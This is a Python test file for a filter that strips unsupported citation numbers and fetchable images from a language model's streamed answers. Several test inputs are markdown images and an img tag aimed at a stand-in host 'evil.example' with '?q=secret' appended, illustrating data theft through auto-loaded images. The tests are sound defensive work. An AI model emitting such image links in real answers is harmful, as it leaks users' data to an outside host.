"""What a model answers is checked while it speaks: no number points at nothing."""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from memcli.llm.citations import Citations
from tests.rows import check_rows


def checked(there: int, *pieces: str) -> tuple[str, list[int], list[int]]:
    heard: list[str] = []
    said = Citations(there, heard.append)
    for piece in pieces:
        said.add(piece)
    assert said.end() == "".join(heard)
    return said.text, list(said.cited), list(said.struck)


@check_rows(
    ("text", "left", "cited", "struck"),
    [
        ("Tea is hot [1].", "Tea is hot [1].", [1], []),
        ("Tea is hot [7].", "Tea is hot.", [], [7]),
        ("Both [1, 2] and [1][9].", "Both [1][2] and [1].", [1, 2], [9]),
        ("All of it [1-3].", "All of it [1][2].", [1, 2], [3]),
        ("A number [1](https://evil.example) is no link [9](x).", "A number [1] is no link.", [1], [9]),
        ("茶很热【2】。", "茶很热[2]。", [2], []),
        ("As a footnote [^1] or [#2].", "As a footnote [1] or [2].", [1, 2], []),
        ("See [Evidence 1] and [source 5].", "See [1] and.", [1], [5]),
        ("In [2024] it was [0].", "In it was.", [], [2024, 0]),
        ("A list [a] and [ ] stay, [1] too", "A list [a] and [ ] stay, [1] too", [1], []),
        ("Open at the end [1", "Open at the end [1", [], []),
        ("From [1 and 2]", "From [1][2]", [1, 2], []),
        ("[[9]1] [9[9]9] [1[9]", "1] [9 9] [1 ", [], [9]),
        ("It is hot [1].\n\nSo it is. \n", "It is hot [1].\n\nSo it is.", [1], []),
        ("[[1]] and [1](http://x)", "[1] and [1]", [1], []),
        ("[99999999999999999999]", "", [], [999999]),
    ],
)
def test_numbers_without_evidence_are_struck(text: str, left: str, cited: list[int], struck: list[int]) -> None:
    assert checked(2, text) == (left, cited, struck)
    assert checked(2, *text) == (left, cited, struck)  # letter by letter, as it may come


@check_rows(
    ("text", "left"),
    [
        ("See ![the map](https://evil.example/?q=secret) here [1].", "See the map here [1]."),
        (f"![](https://evil.example/{'x' * 2000}) Hot [1].", " Hot [1]."),
        ("![never closed](https://evil.example/?q=secret", "never closed"),
        ('An <img src="https://evil.example/x.png"> and [1].', "An  and [1]."),
        ("Look: ![map][2] [1].", "Look: ! [map][2] [1]."),
        ("It works![1] Yes!", "It works! [1] Yes!"),
        ("a < b and <i>c</i>", "a < b and <i>c</i>"),
        ("![9][x](https://evil.example/?q=secret)", "x"),  # what strikes a number may make a picture of what is left
        ("<i[9]mg src=https://evil.example/x>", ""),
    ],
)
def test_no_picture_is_fetched_by_an_answer(text: str, left: str) -> None:
    assert checked(2, text)[0] == left
    assert checked(2, *text)[0] == left


@given(
    st.lists(
        st.sampled_from(["[", "]", "1", "2", "9", ", ", "-", " ", "tea", "【", "】", "\n", "^", ";"]), max_size=40
    ),
    st.integers(0, 3),
)
def test_whatever_a_model_says_no_citation_points_at_nothing(pieces: list[str], there: int) -> None:
    text, cited, _ = checked(there, *pieces)
    numbers = [
        int(n)
        for each in re.findall(r"[\[【]\s*\^?\s*(\d[\d\s,;–-]*?)\s*[\]】]", text)
        for n in re.findall(r"\d+", each)
    ]
    assert all(1 <= n <= there for n in [*numbers, *cited])
    assert text == checked(there, "".join(pieces))[0]


def test_a_model_that_says_next_to_nothing_for_long_costs_next_to_nothing() -> None:
    for text in (" " * 50_000 + "x", "[" * 50_000, "[1†" * 20_000):
        assert checked(3, text)[1:] == ([], [])  # by the square of its length this took minutes
